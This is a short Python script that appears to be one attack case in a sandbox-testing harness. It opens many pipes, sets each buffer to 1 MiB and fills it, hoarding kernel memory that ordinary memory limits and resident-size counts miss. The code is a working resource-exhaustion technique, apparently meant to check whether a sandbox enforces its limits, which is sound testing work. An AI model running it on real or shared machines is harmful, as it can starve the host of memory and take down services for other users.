"""Take memory without end in the buffers of pipes, which no limit on data and no resident size counts."""

import fcntl
import os

from attempt import attempt
from bot import play, setting

PIPE = 1 << 20
pipes = []


def attack() -> None:
    for _ in range(setting("megabytes")):
        reading, writing = os.pipe()
        pipes.append((reading, writing))
        fcntl.fcntl(writing, fcntl.F_SETPIPE_SZ, PIPE)
        os.write(writing, b"x" * PIPE)


play(lambda: attempt("hold memory in pipes", attack))
